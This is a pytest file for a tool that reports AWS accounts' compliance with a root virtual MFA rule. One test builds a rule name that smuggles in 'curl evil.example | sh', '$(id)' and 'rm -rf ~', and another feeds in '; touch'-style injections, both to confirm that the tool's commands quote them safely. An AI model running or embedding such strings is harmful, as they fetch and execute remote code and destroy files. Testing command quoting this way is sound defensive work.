"""What the report says about an account, for every state that an account can be in."""

import os
import shlex
import subprocess
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from organization import commands
from organization.controls.judging import RootFacts
from organization.deployment import PACK_RULE_PREFIX, RULE_NAME, Deployment, is_our_rule
from organization.exceptions.judging import Acceptance, Exceptions, Exclusion
from organization.journal import Entry, FailedEvaluation, Journal
from organization.report.judging import FAILURES, MEANINGS, Observed, Row, in_doubt, notes, rows, totals
from organization.statuses import STALE_AFTER, Account, Arrival, Result, Status, duration
from organization.visible import visible
from root_virtual_mfa_enabled.decision import AccountSummary

CENTRAL, MANAGEMENT, MEMBER = "111111111111", "222222222222", "333333333333"
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
PACK_RULE = "root-virtual-mfa-enabled-conformance-pack-abc123xyz"
OTHER_PACK_RULE = "root-virtual-mfa-enabled-conformance-pack-zzz999zzz"

DEPLOYMENT = Deployment(
    stack_name="root-virtual-mfa",
    stack_status="CREATE_COMPLETE",
    account_id=CENTRAL,
    region="eu-central-1",
    partition="aws",
    organization_id="o-a1b2c3d4e5",
    organization_root_id="r-a1b2",
    management_account_id=MANAGEMENT,
    stack_set_name="root-virtual-mfa-account",
    log_group_name="log",
    pack_parameters={"FunctionArn": "arn:f", "NonVirtualMfa": "COMPLIANT"},
    pack_excluded=(MANAGEMENT,),
)
PACK = "OrgConformsPack-root-virtual-mfa-a1b2c3d4"
ARRIVED_PACK = Arrival("CREATE_SUCCESSFUL", name=PACK, compliance="COMPLIANT")
ARRIVED_STACK = Arrival("SUCCEEDED")
NOT_APPLICABLE = {"noRootCredentials": "NOT_APPLICABLE"}


def result(compliance: str = "COMPLIANT", hours_ago: float = 1, rule: str = PACK_RULE) -> Result:
    return Result(rule, compliance, f"Annotation of {compliance}.", NOW - timedelta(hours=hours_ago))


def judge(  # noqa: PLR0913 - the parts of an account that a test may change
    *results: Result,
    account: Account | None = None,
    deployment: Deployment = DEPLOYMENT,
    pack: Arrival | None = ARRIVED_PACK,
    stack: Arrival | None = ARRIVED_STACK,
    exceptions: Exceptions | None = None,
    journal: Journal | None = None,
    asked: frozenset[str] | None = None,
) -> Row:
    account = account or Account(MEMBER, "Shop", "Root/Workloads")
    key = account.account_id
    packs = {
        CENTRAL: ARRIVED_PACK,
        **({key: pack} if pack else {}),
    }  # the aggregator lists another account's
    stacks = {key: stack} if stack else {}
    results_by_id = {key: results} if results else {}
    written = journal or Journal()
    excepted = exceptions or Exceptions()
    (row,) = rows(Observed(deployment, NOW, [account], results_by_id, packs, stacks, excepted, written, asked))
    return row


ROOT_USER = RootFacts(
    AccountSummary(mfa_enabled=True, password_present=True, access_keys_present=False, signing_certificates_present=False), 0
)


def entry(verdict: str = "COMPLIANT", hours_ago: float = 1, rule: str = PACK_RULE) -> Entry:
    return Entry(NOW - timedelta(hours=hours_ago), rule, verdict, f"Noted {verdict}.", ROOT_USER)


def noted(*args: Any, **kwargs: Any) -> Journal:  # noqa: ANN401 - those of entry()
    """Return a journal that has an evaluation of the member."""
    return Journal({MEMBER: entry(*args, **kwargs)})


def listed(compliance: str = "COMPLIANT", rule: str = PACK_RULE) -> Result:
    """Return what the aggregator lists of a rule, without its details."""
    return Result(rule, compliance)


# --- Results ---


@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
def test_recent_result_counts_with_its_annotation_and_age(compliance: str) -> None:
    row = judge(result(compliance, hours_ago=2))
    assert row.status == compliance
    assert row.finding == f"Annotation of {compliance}."
    assert row.age == timedelta(hours=2)
    assert row.rule_names == (PACK_RULE,)
    assert row.advice == ()


def test_result_of_exactly_26_hours_counts_and_of_more_is_unknown() -> None:
    assert judge(result(hours_ago=26)).status is Status.COMPLIANT
    assert judge(replace(result(), time=NOW - STALE_AFTER - timedelta(seconds=1))).status is Status.UNKNOWN


@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
def test_stale_result_is_unknown_and_says_what_it_was(compliance: str) -> None:
    row = judge(result(compliance, hours_ago=49))
    assert row.status is Status.UNKNOWN
    assert row.annotation == ""
    assert f"49 h old, and older than 26 h is unknown. It was {compliance}: Annotation" in row.finding
    assert row.advice[0].commands == commands.show_failures(DEPLOYMENT, MEMBER)


def test_rule_without_a_result_is_unknown() -> None:
    row = judge(Result(PACK_RULE))
    assert (row.status, row.age) == (Status.UNKNOWN, None)
    assert "has no result yet" in row.finding


def test_compliance_that_is_no_verdict_is_unknown() -> None:
    assert judge(result("INSUFFICIENT_DATA")).status is Status.UNKNOWN


def test_result_from_the_future_is_new() -> None:
    assert judge(result(hours_ago=-1)).age == timedelta()


SEEN = st.tuples(
    st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE", "", "?"]),
    st.floats(0, 100),
    st.sampled_from([PACK_RULE, OTHER_PACK_RULE, RULE_NAME]),
)
"""A result: its verdict, hours ago, and the rule's name."""


@given(
    st.lists(
        SEEN,
        max_size=4,
        unique_by=lambda seen: seen[2],
    ),
    st.sampled_from(
        [None, "CREATE_SUCCESSFUL", "UPDATE_SUCCESSFUL", "CREATE_FAILED", "UPDATE_IN_PROGRESS", "DELETE_SUCCESSFUL"]
    ),
    st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "INSUFFICIENT_DATA", ""]),
)
def test_no_account_is_compliant_but_by_a_recent_result_of_the_one_rule_of_a_pack_that_arrived_and_is_compliant(
    seen: Sequence[tuple[str, float, str]], pack_status: str | None, pack_compliance: str
) -> None:
    pack = Arrival(pack_status, name=PACK, compliance=pack_compliance) if pack_status else None
    row = judge(*(result(compliance, ago, rule) for compliance, ago, rule in seen), pack=pack)
    if row.status in {Status.COMPLIANT, Status.NOT_APPLICABLE}:
        [(compliance, ago, _)] = [each for each in seen if each[2].startswith(PACK_RULE_PREFIX)]
        assert (compliance, pack_compliance) == (row.status, "COMPLIANT")
        assert ago <= 26
        assert pack_status in {"CREATE_SUCCESSFUL", "UPDATE_SUCCESSFUL"}
    else:
        assert row.status in FAILURES


# --- The journal beside AWS Config ---


@pytest.mark.parametrize("verdict", ["COMPLIANT", "NON_COMPLIANT"])
def test_if_the_journal_and_aws_config_say_the_same_that_counts_whatever_aws_configs_times_are(verdict: str) -> None:
    assert not in_doubt(MEMBER, [listed(verdict)], noted(verdict, 25), DEPLOYMENT, NOW)
    row = judge(listed(verdict), journal=noted(verdict, 25), pack=None, stack=None, asked=frozenset())
    assert (row.status, row.annotation, row.age) == (verdict, f"Noted {verdict}.", timedelta(hours=25))
    assert (row.advice, row.rule_names) == ((), (PACK_RULE,))


@pytest.mark.parametrize("verdict", ["COMPLIANT", "NON_COMPLIANT"])
@pytest.mark.parametrize("pack", [ARRIVED_PACK, None])
def test_facts_are_those_of_a_line_that_aws_config_confirms(verdict: str, pack: Arrival | None) -> None:
    assert judge(listed(verdict), journal=noted(verdict), pack=pack, asked=frozenset()).root == ROOT_USER
    assert judge(result(verdict), pack=pack).root is None
    assert judge(result(verdict, 1), journal=noted(verdict, 27), pack=pack).root is None


@pytest.mark.parametrize(
    ("results", "journal"),
    [
        ([], noted("NON_COMPLIANT")),
        ([result("COMPLIANT")], noted("NON_COMPLIANT")),
        ([result("NON_COMPLIANT")], noted("COMPLIANT")),
        ([result("NON_COMPLIANT", rule=OTHER_PACK_RULE)], noted("NON_COMPLIANT")),
        ([result("COMPLIANT"), result(rule=OTHER_PACK_RULE)], noted("COMPLIANT")),
    ],
)
def test_facts_are_unknown_if_the_two_sources_differ_or_the_status_is_not_the_lines(
    results: list[Result], journal: Journal
) -> None:
    assert judge(*results, journal=journal).root is None


def test_facts_of_an_accepted_failure_stay_and_an_excluded_account_has_none() -> None:
    seen, journal = listed("NON_COMPLIANT"), noted("NON_COMPLIANT")
    row = judge(seen, journal=journal, asked=frozenset(), exceptions=accepting(TODAY))
    assert (row.status, row.root) == (Status.ACCEPTED, ROOT_USER)
    assert judge(seen, journal=journal, deployment=EXCLUDED).root is None


def test_not_applicable_result_which_no_aggregator_lists_is_known_from_the_journal() -> None:
    assert not in_doubt(MEMBER, [], noted("NOT_APPLICABLE"), DEPLOYMENT, NOW)
    assert judge(journal=noted("NOT_APPLICABLE"), asked=frozenset()).status is Status.NOT_APPLICABLE


@pytest.mark.parametrize(
    ("results", "journal"),
    [
        ([listed()], Journal()),
        ([listed()], noted("COMPLIANT", 27)),
        ([listed()], noted("NON_COMPLIANT")),
        ([listed()], noted("NOT_APPLICABLE")),
        ([listed()], noted("SPLENDID")),
        ([listed("SPLENDID")], noted("SPLENDID")),
        ([listed(rule=OTHER_PACK_RULE)], noted()),
        ([listed(), listed(rule=OTHER_PACK_RULE)], noted()),
        ([listed(rule=RULE_NAME)], noted(rule=RULE_NAME)),
        ([], noted()),
        ([], Journal({CENTRAL: entry()})),
    ],
)
def test_everything_else_is_in_doubt_and_compliant_for_neither_alone(results: list[Result], journal: Journal) -> None:
    assert in_doubt(MEMBER, results, journal, DEPLOYMENT, NOW)
    assert judge(*results, journal=journal).status in FAILURES


@pytest.mark.parametrize(
    ("found", "journal"),
    [
        (result(), noted("NOT_APPLICABLE")),
        (result("NOT_APPLICABLE"), noted()),
        (result(rule=OTHER_PACK_RULE), noted()),
    ],
    ids=["another verdict", "another verdict that passes", "another rule"],
)
def test_recent_result_that_a_fresh_line_of_the_journal_does_not_confirm_is_unknown(found: Result, journal: Journal) -> None:
    assert judge(found).status == found.compliance, "without the line"
    row = judge(found, journal=journal)
    assert row.status is Status.UNKNOWN
    assert row.advice[0].why.startswith("The journal says ")


@pytest.mark.parametrize("hours_ago", [1, 49])
def test_journal_that_says_non_compliant_counts_whatever_aws_config_says_and_that_is_told(hours_ago: float) -> None:
    row = judge(result("COMPLIANT", hours_ago), journal=noted("NON_COMPLIANT"))
    assert (row.status, row.annotation, row.age) == (Status.NON_COMPLIANT, "Noted NON_COMPLIANT.", timedelta(hours=1))
    assert row.advice[0].why == "The journal says NON_COMPLIANT (1 h ago), and AWS Config says COMPLIANT."
    assert row.advice[0].commands == (
        *commands.show_journal(DEPLOYMENT, MEMBER),
        commands.show_rules(DEPLOYMENT, [PACK_RULE]),
    )


@pytest.mark.parametrize(("hours_ago", "status"), [(1, Status.NON_COMPLIANT), (27, Status.UNKNOWN)])
def test_result_that_fails_stays_a_failure_though_the_journal_says_compliant(hours_ago: float, status: Status) -> None:
    row = judge(result("NON_COMPLIANT", hours_ago), journal=noted())
    assert row.status is status
    assert row.advice[0].why == "The journal says COMPLIANT (1 h ago), and AWS Config says NON_COMPLIANT."


def test_aws_config_that_says_nothing_of_a_fresh_verdict_is_told() -> None:
    assert judge(journal=noted()).advice[0].why == "The journal says COMPLIANT (1 h ago), and AWS Config says nothing."
    assert judge(journal=noted("NON_COMPLIANT")).status is Status.NON_COMPLIANT
    assert judge(Result(PACK_RULE), journal=noted("NON_COMPLIANT")).annotation == "Noted NON_COMPLIANT."


def test_one_of_several_rules_that_the_journal_confirms_is_no_disagreement() -> None:
    row = judge(result(), result(rule=OTHER_PACK_RULE), journal=noted())
    assert row.status is Status.UNKNOWN
    assert [advice.why[:24] for advice in row.advice] == ["The account has 2 rules "]


def test_reason_of_the_last_failure_is_told_unless_an_evaluation_succeeded_since() -> None:
    failed = {MEMBER: FailedEvaluation(NOW - timedelta(hours=2), "AssumeRoleError: refused.")}
    for results in ([], [result(hours_ago=49)]):
        assert (
            "The last evaluation failed 2 h ago. AssumeRoleError: refused."
            in judge(*results, journal=Journal({}, failed)).finding
        )
    known = judge(result(), journal=Journal({MEMBER: entry(hours_ago=1)}, failed))
    assert (known.status, known.advice) == (Status.COMPLIANT, ())


def test_failures_of_pack_and_stack_set_are_told_of_an_account_that_is_not_in_doubt() -> None:
    row = judge(listed(), journal=noted(), pack=Arrival("UPDATE_FAILED", "x"), stack=Arrival("FAILED", "y"), asked=frozenset())
    assert row.status is Status.COMPLIANT
    assert len(row.advice) == 2
    assert (row.conformance_pack_status, row.stack_set_status) == ("UPDATE_FAILED", "FAILED")


def test_account_in_doubt_has_to_be_in_its_pack_once_the_journal_confirms_the_others() -> None:
    unlisted = Arrival("CREATE_SUCCESSFUL", name=PACK)
    observed = Observed(
        DEPLOYMENT, NOW, [Account(MEMBER, "", "")], {MEMBER: [result()]}, {MEMBER: unlisted}, {}, asked=frozenset({MEMBER})
    )
    assert rows(observed)[0].status is Status.UNKNOWN
    assert rows(replace(observed, asked=None))[0].status is Status.COMPLIANT


def test_journal_that_could_not_be_read_is_noted() -> None:
    observed = Observed(DEPLOYMENT, NOW, [], {}, {}, {}, journal=Journal(problem="StartQuery failed."))
    assert notes(observed) == ["The journal was not read, so everything relies on AWS Config alone. StartQuery failed."]


@pytest.mark.parametrize(("verdict", "hours_ago", "status"), [("COMPLIANT", 1, "COMPLIANT"), ("COMPLIANT", 27, "UNKNOWN")])
def test_for_one_account_the_journal_refreshes_the_result_too(verdict: str, hours_ago: float, status: str) -> None:
    deployment = replace(DEPLOYMENT, organization_id="", management_account_id="")
    results = {CENTRAL: [replace(result(verdict, 49, RULE_NAME), annotation="")]}
    journal = Journal({CENTRAL: entry("COMPLIANT", hours_ago, RULE_NAME)})
    (row,) = rows(Observed(deployment, NOW, [Account(CENTRAL, "", "")], results, journal=journal))
    assert row.status == status
    assert row.annotation == ("Noted COMPLIANT." if status == "COMPLIANT" else "")


@given(
    st.lists(
        SEEN,
        max_size=3,
        unique_by=lambda seen: seen[2],
    ),
    st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE", "?"]),
    st.floats(0, 100),
    st.sampled_from([None, ARRIVED_PACK]),
)
def test_journal_never_makes_an_account_compliant_alone_and_never_hides_a_failure(
    seen: Sequence[tuple[str, float, str]], verdict: str, hours_ago: float, pack: Arrival | None
) -> None:
    results = [result(compliance, ago, rule) for compliance, ago, rule in seen]
    row = judge(*results, journal=noted(verdict, hours_ago), pack=pack)
    is_fresh = hours_ago <= 26 and verdict != "?"
    if row.status is Status.COMPLIANT:
        [own] = [each for each in results if each.rule_name.startswith(PACK_RULE_PREFIX)]
        assert own.compliance == "COMPLIANT"
        assert is_fresh or pack is ARRIVED_PACK
        if is_fresh:
            assert (own.rule_name, verdict) == (PACK_RULE, "COMPLIANT")
    if is_fresh and verdict == "NON_COMPLIANT":
        assert row.status is Status.NON_COMPLIANT


# --- Rules that somebody made ---


@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
@pytest.mark.parametrize("own", ["COMPLIANT", "NON_COMPLIANT"])
def test_beside_the_own_rule_one_of_the_plain_name_counts_for_nothing_and_is_told(own: str, compliance: str) -> None:
    row = judge(result(own), result(compliance, rule=RULE_NAME))
    assert (row.status, row.annotation) == (own, f"Annotation of {own}.")
    assert row.rule_names == (RULE_NAME, PACK_RULE)
    (advice,) = row.advice
    assert advice.why == (
        f"The account has a rule root-virtual-mfa-enabled, which says {compliance}. It does not count: somebody made a rule of "
        "this name, and this deployment did not."
    )
    assert advice.action == f"See with credentials of account {MEMBER} who made it (CreatedBy), and delete it."
    assert advice.commands == (
        "aws configservice describe-config-rules --region eu-central-1 --config-rule-names root-virtual-mfa-enabled",
        "aws configservice delete-config-rule --region eu-central-1 --config-rule-name root-virtual-mfa-enabled",
    )


def test_rule_that_is_left_over_from_a_stack_set_is_no_surprise_while_the_pack_takes_over() -> None:
    left = result("NON_COMPLIANT", rule=RULE_NAME)
    changing = replace(DEPLOYMENT, stack_status="UPDATE_IN_PROGRESS")
    assert (judge(result(), left, deployment=changing).advice, judge(result(), left).status) == ((), Status.COMPLIANT)
    watched = replace(DEPLOYMENT, management_account_has_role=True)
    row = judge(result(), left, account=Account(MANAGEMENT, "Management", "Root"), deployment=watched)
    assert "If a StackSet brought the rule before" in row.advice[0].action
    assert row.advice[0].commands[-1] == commands.deploy_management_account("eu-central-1", "root-virtual-mfa")


def test_rule_of_the_plain_name_alone_is_no_result() -> None:
    row = judge(result(rule=RULE_NAME))
    assert (row.status, row.annotation, row.age) == (Status.UNKNOWN, "", None)
    assert [advice.why.partition(".")[0] for advice in row.advice] == [
        "There is no result: the recorder is off, evaluations fail, or none was made yet",
        "The account has a rule root-virtual-mfa-enabled, which says COMPLIANT",
    ]


@pytest.mark.parametrize("status", [None, "CREATE_FAILED", "CREATE_IN_PROGRESS", "UPDATE_IN_PROGRESS", "UPDATE_FAILED"])
@pytest.mark.parametrize("compliance", ["COMPLIANT", "NON_COMPLIANT"])
def test_before_the_pack_has_arrived_no_rule_of_its_name_counts(status: str | None, compliance: str) -> None:
    row = judge(result(compliance), pack=Arrival(status, name=PACK, compliance=compliance) if status else None)
    assert (row.status, row.annotation) == (Status.UNKNOWN, "")
    missing, advice = row.advice
    assert missing.why.startswith("The conformance pack root-virtual-mfa ")
    assert (
        f"({PACK_RULE}), which says {compliance}. It does not count: until the pack has arrived, nobody can tell " in advice.why
    )
    assert advice.commands == (
        f"aws configservice describe-config-rules --region eu-central-1 --config-rule-names {PACK_RULE}",
    )


@pytest.mark.parametrize(
    ("one", "other", "status"),
    [
        (result("COMPLIANT"), result("COMPLIANT"), Status.UNKNOWN),
        (result("NOT_APPLICABLE"), result("COMPLIANT"), Status.UNKNOWN),
        (result("NON_COMPLIANT"), result("COMPLIANT"), Status.NON_COMPLIANT),
        (result("NON_COMPLIANT"), result("COMPLIANT", hours_ago=30), Status.NON_COMPLIANT),
        (result("NON_COMPLIANT", hours_ago=30), result("COMPLIANT"), Status.UNKNOWN),
    ],
)
def test_of_several_rules_of_a_packs_name_none_makes_the_account_compliant(one: Result, other: Result, status: Status) -> None:
    other = replace(other, rule_name=OTHER_PACK_RULE)
    for results in ((one, other), (other, one)):
        row = judge(*results)
        assert row.status is status
        assert row.annotation == ("Annotation of NON_COMPLIANT." if status is Status.NON_COMPLIANT else "")
        (advice,) = row.advice
        assert f"2 rules of names that only the conformance pack gives ({PACK_RULE}, {OTHER_PACK_RULE})" in advice.why
        assert "somebody made a rule of this name" in advice.why
        assert advice.commands == (
            f"aws configservice describe-conformance-pack-compliance --region eu-central-1 --conformance-pack-name {PACK}",
            f"aws configservice describe-config-rules --region eu-central-1 --config-rule-names {PACK_RULE} {OTHER_PACK_RULE}",
        )


def test_hundreds_of_rules_are_not_listed() -> None:
    (advice,) = judge(*(result(rule=f"{PACK_RULE}{number:03}") for number in range(300))).advice
    assert f"{PACK_RULE}004 and 295 more)" in advice.why
    assert f"{PACK_RULE}004" in advice.commands[1]
    assert f"{PACK_RULE}005" not in advice.why + advice.commands[1]


@pytest.mark.parametrize("pack_compliance", ["NON_COMPLIANT", "INSUFFICIENT_DATA", ""])
def test_compliant_rule_of_a_pack_that_is_not_compliant_is_unknown(pack_compliance: str) -> None:
    pack = replace(ARRIVED_PACK, compliance=pack_compliance)
    row = judge(result(), pack=pack)
    assert (row.status, row.annotation, row.age) == (Status.UNKNOWN, "", None)
    (advice,) = row.advice
    assert f"The rule {PACK_RULE} says COMPLIANT, and AWS Config says {pack_compliance or 'nothing'} about the " in advice.why
    assert advice.commands[0].endswith(f" --conformance-pack-name {PACK}")
    assert advice.commands[-1] == commands.show_failures(DEPLOYMENT, MEMBER)[0]
    assert judge(result("NON_COMPLIANT"), pack=pack).status is Status.NON_COMPLIANT


def test_if_the_aggregator_lists_no_pack_at_all_the_rule_alone_decides_and_a_note_says_so() -> None:
    unlisted = replace(ARRIVED_PACK, compliance="")
    packs = {MEMBER: unlisted, CENTRAL: unlisted}
    observed = Observed(
        DEPLOYMENT, NOW, [Account(MEMBER, "Shop", "Root")], {MEMBER: [result()]}, packs, {MEMBER: ARRIVED_STACK}
    )
    assert [row.status for row in rows(observed)] == [Status.COMPLIANT]
    assert ["relies on the name of the rule alone" in note for note in notes(observed)] == [True]
    listed = replace(observed, packs={MEMBER: unlisted, CENTRAL: ARRIVED_PACK})
    assert [row.status for row in rows(listed)] == [Status.UNKNOWN]
    assert notes(listed) == []


def test_commands_run_nothing_but_themselves_whatever_rules_are_called() -> None:
    name = f"{PACK_RULE}; curl evil.example | sh #'$(id)`id`\n  rm -rf ~ \u2028"
    row = judge(result(), result(rule=name))
    (command,) = (command for command in row.advice[0].commands if "describe-config-rules" in command)
    assert len(command.splitlines()) == 1
    expected = ["aws", "configservice", "describe-config-rules", "--region", "eu-central-1", "--config-rule-names", PACK_RULE]
    assert shlex.split(command) == [*expected, visible(name)]


def test_own_command_runs_nothing_but_itself(tmp_path: Path) -> None:
    attempts = ["; touch 1", "$(touch 2)", "`touch 3`", "\ntouch 4", "&& touch 5", "> 6"]
    value = "a'b\"c " + " ".join(attempts)
    program = tmp_path / "bin" / "root-virtual-mfa"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\nprintf '%s\\n' \"$@\"\n", encoding="utf-8")
    program.chmod(0o755)
    command = ["/bin/sh", "-c", commands.deploy("name " + value, "organization", A="1", B=value)]
    environment = {**os.environ, "PATH": f"{program.parent}:{os.environ['PATH']}"}
    ran = subprocess.run(  # noqa: S603 - our own command
        command, cwd=tmp_path, env=environment, capture_output=True, check=True, text=True
    )
    named = ["--stack-name", f"name {visible(value)}"]
    expected = ["deploy", *named, "--scope", "organization", "--parameter", "A=1", "--parameter", f"B={visible(value)}"]
    assert ran.stdout.splitlines() == expected
    assert [path.name for path in tmp_path.iterdir()] == ["bin"]


@pytest.mark.parametrize(
    ("name", "ours"),
    [
        ("root-virtual-mfa-enabled", True),
        (PACK_RULE, True),
        ("root-virtual-mfa-enabled-old", False),
        ("root-virtual-mfa-enabled-conformance-pack-", True),
        ("root-virtual-mfa-enabled-conformance-pack-abc-old", True),
        ("my-root-virtual-mfa-enabled", False),
        ("root-virtual-mfa-enabled\n", False),
        ("OrgConfigRule-root-virtual-mfa-enabled-abc", False),
    ],
)
def test_rule_names(name: str, *, ours: bool) -> None:
    assert is_our_rule(name) is ours


# --- Accounts that are not judged ---


@pytest.mark.parametrize("state", ["SUSPENDED", "PENDING_CLOSURE", "CLOSED"])
def test_account_that_is_no_longer_active_is_listed_and_not_judged(state: str) -> None:
    row = judge(result("NON_COMPLIANT"), account=Account(MEMBER, "Old", "Root", state))
    assert row.status is Status.SUSPENDED
    assert state in row.finding


def test_account_that_is_not_active_yet_is_judged() -> None:
    assert judge(account=Account(MEMBER, "New", "Root", "PENDING_ACTIVATION")).status is Status.UNKNOWN


EXCLUDED = replace(DEPLOYMENT, excluded=frozenset({MEMBER, CENTRAL}))
TODAY, YESTERDAY, TOMORROW = (NOW.date() + timedelta(days=days) for days in (0, -1, 1))


def excluding(until: date | None, owner: str = "platform") -> Exceptions:
    return Exceptions(excluded={MEMBER: Exclusion("Sandbox", owner, until)})


def test_excluded_account_has_its_reason_its_owner_and_its_last_day() -> None:
    row = judge(result("NON_COMPLIANT"), deployment=EXCLUDED, exceptions=Exceptions({MEMBER: Exclusion("Sandbox")}))
    assert (row.status, row.finding) == (Status.EXCLUDED, "Sandbox")
    row = judge(result("NON_COMPLIANT"), deployment=EXCLUDED, exceptions=excluding(TODAY))
    assert (row.status, row.finding) == (Status.EXCLUDED, "Sandbox. Owner: platform. Until 2026-03-01.")
    assert judge(deployment=EXCLUDED).finding == "No reason given in excluded-accounts.yaml."


def test_account_whose_exclusion_has_ended_is_unknown_and_the_command_lets_it_be_evaluated() -> None:
    row = judge(deployment=EXCLUDED, exceptions=excluding(YESTERDAY))
    assert row.status is Status.UNKNOWN
    assert row.finding == "The account was excluded until 2026-02-28, and is still not evaluated."
    (advice,) = row.advice
    assert "the owner (platform) decide again" in advice.action
    assert advice.action.endswith("The reason was: Sandbox")
    assert advice.commands == (f"root-virtual-mfa deploy --parameter ExcludedAccounts={CENTRAL}",)
    alone = replace(DEPLOYMENT, stack_name="mfa", excluded=frozenset({MEMBER}))
    assert judge(deployment=alone, exceptions=excluding(YESTERDAY)).advice[0].commands == (
        "root-virtual-mfa deploy --stack-name mfa --parameter ExcludedAccounts=",
    )


def test_account_whose_exclusion_begins_later_is_unknown() -> None:
    later = Exclusion("Sandbox", "platform", until=TOMORROW, since=TOMORROW)
    row = judge(deployment=EXCLUDED, exceptions=Exceptions(excluded={MEMBER: later}))
    assert row.status is Status.UNKNOWN
    assert row.finding == "The account is excluded since 2026-03-02, and is not evaluated before that."
    assert "write an earlier date" in row.advice[0].action
    assert row.advice[0].commands == (f"root-virtual-mfa deploy --parameter ExcludedAccounts={CENTRAL}",)
    begun = Exclusion("Sandbox", "platform", until=TODAY, since=TODAY)
    row = judge(deployment=EXCLUDED, exceptions=Exceptions(excluded={MEMBER: begun}))
    assert (row.status, row.finding) == (
        Status.EXCLUDED,
        "Sandbox. Owner: platform. Since 2026-03-01. Until 2026-03-01.",
    )


# --- Failures that are accepted ---


def accepting(until: date) -> Exceptions:
    return Exceptions(accepted={MEMBER: Acceptance("No phones on the site", "Two keys in two safes.", "security", until)})


def test_accepted_failure_is_one_of_its_own_kind_with_its_reason_control_owner_and_last_day() -> None:
    row = judge(result("NON_COMPLIANT"), exceptions=accepting(TODAY))
    assert row.status is Status.ACCEPTED
    assert row.finding == (
        "Annotation of NON_COMPLIANT. Accepted until 2026-03-01: No phones on the site. Compensating control: Two keys in two "
        "safes. Owner: security."
    )
    assert row.advice == ()
    assert Status.ACCEPTED not in FAILURES


def test_from_the_day_after_it_is_a_plain_failure_and_the_report_says_why() -> None:
    row = judge(result("NON_COMPLIANT"), exceptions=accepting(YESTERDAY))
    assert row.status is Status.NON_COMPLIANT
    assert row.finding == "Annotation of NON_COMPLIANT. This failure was accepted until 2026-02-28, and no longer is."
    assert "the owner (security) decide again" in row.advice[0].action


def test_before_its_first_day_it_is_a_plain_failure_and_the_report_says_why() -> None:
    later = Acceptance("No phones", "Two keys", "security", until=TOMORROW, since=TOMORROW)
    row = judge(result("NON_COMPLIANT"), exceptions=Exceptions(accepted={MEMBER: later}))
    assert row.status is Status.NON_COMPLIANT
    assert row.finding == "Annotation of NON_COMPLIANT. This failure is accepted from 2026-03-02 on, and not before."
    row = judge(result("NON_COMPLIANT"), exceptions=Exceptions(accepted={MEMBER: replace(later, since=TODAY)}))
    assert row.status is Status.ACCEPTED
    assert "Accepted since 2026-03-01 and until 2026-03-02: No phones." in row.finding


@pytest.mark.parametrize("until", [TODAY, YESTERDAY])
def test_account_that_does_not_fail_needs_no_acceptance(until: date) -> None:
    for seen, status in (([result()], Status.COMPLIANT), ([result("NOT_APPLICABLE")], Status.NOT_APPLICABLE)):
        row = judge(*seen, exceptions=accepting(until))
        assert row.status is status
        assert row.advice[0].action == "Remove its entry from excluded-accounts.yaml."


@pytest.mark.parametrize(
    ("moment", "status"),
    [
        (datetime(2026, 3, 1, 23, 59, 59, tzinfo=UTC), Status.ACCEPTED),
        (datetime(2026, 3, 2, tzinfo=UTC), Status.NON_COMPLIANT),
        (datetime(2026, 3, 2, 1, 59, tzinfo=timezone(timedelta(hours=2))), Status.ACCEPTED),
        (datetime(2026, 3, 1, 22, tzinfo=timezone(timedelta(hours=-2))), Status.NON_COMPLIANT),
    ],
)
def test_the_day_is_that_of_utc(moment: datetime, status: Status) -> None:
    deployment = replace(DEPLOYMENT, organization_id="", management_account_id="")
    results = {MEMBER: [Result(RULE_NAME, "NON_COMPLIANT", "", moment)]}
    accepted = accepting(date(2026, 3, 1))
    (row,) = rows(Observed(deployment, moment, [Account(MEMBER, "", "")], results, exceptions=accepted))
    assert row.status is status


@given(
    st.lists(
        st.tuples(st.sampled_from(["COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE", "", "?"]), st.floats(0, 100)), max_size=2
    ),
    st.sampled_from([None, "CREATE_SUCCESSFUL", "CREATE_FAILED"]),
    st.sampled_from([None, "COMPLIANT", "NON_COMPLIANT"]),
    st.dates(TODAY - timedelta(days=2), TODAY + timedelta(days=2)),
)
def test_an_acceptance_changes_a_failure_that_is_known_and_nothing_else(
    seen: Sequence[tuple[str, float]], pack_status: str | None, verdict: str | None, until: date
) -> None:
    rules = (PACK_RULE, OTHER_PACK_RULE)
    results = [result(compliance, ago, rule) for (compliance, ago), rule in zip(seen, rules, strict=False)]
    pack = Arrival(pack_status, name=PACK, compliance="COMPLIANT") if pack_status else None
    journal = noted(verdict) if verdict else Journal()
    plain = judge(*results, pack=pack, journal=journal)
    row = judge(*results, pack=pack, journal=journal, exceptions=accepting(until))
    is_accepted = plain.status is Status.NON_COMPLIANT and until >= TODAY
    assert row.status is (Status.ACCEPTED if is_accepted else plain.status)
    assert row.annotation == plain.annotation
    assert set(plain.advice) <= set(row.advice)


# --- Accounts without a result ---


def test_everything_arrived_and_no_result() -> None:
    row = judge()
    assert row.status is Status.UNKNOWN
    assert "There is no result" in row.finding
    assert "NOT_APPLICABLE" not in row.finding
    assert row.advice[0].commands == (commands.show_recorder(DEPLOYMENT), *commands.show_failures(DEPLOYMENT, MEMBER))
    # Each command runs in another account: the recorder's in the member, the log's where the function is.
    assert row.advice[0].action == (
        f"See with credentials of account {MEMBER} that its recorder is on, and with those of account {CENTRAL} why "
        "evaluations fail."
    )
    (advice,) = judge(deployment=replace(DEPLOYMENT, log_group_name="")).advice
    assert advice.action == f"See with credentials of account {MEMBER} that its recorder is on."
    assert advice.commands == (commands.show_recorder(DEPLOYMENT),)


def test_an_old_results_log_is_where_the_function_is() -> None:
    (advice,) = judge(result("COMPLIANT", hours_ago=27)).advice
    assert f"See with credentials of account {CENTRAL} why evaluations fail" in advice.action
    assert advice.commands == commands.show_failures(DEPLOYMENT, MEMBER)


def test_no_result_may_be_not_applicable_if_the_parameter_says_so() -> None:
    assert "never reaches the aggregator" in judge(deployment=replace(DEPLOYMENT, rule_parameters=NOT_APPLICABLE)).finding


